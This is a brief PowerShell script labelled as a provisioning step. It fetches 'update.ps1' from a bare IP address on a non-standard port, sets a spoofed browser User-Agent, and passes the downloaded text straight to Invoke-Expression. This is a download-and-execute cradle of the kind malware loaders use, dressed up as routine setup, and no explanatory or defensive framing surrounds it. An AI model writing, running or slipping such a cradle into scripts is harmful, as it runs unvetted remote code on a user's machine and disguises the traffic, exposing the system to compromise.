# provision 6653 v4
$u = 'http://198.51.100.23:9001/'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0')
$s = $wc.DownloadString($u + 'update.ps1')
Invoke-Expression $s
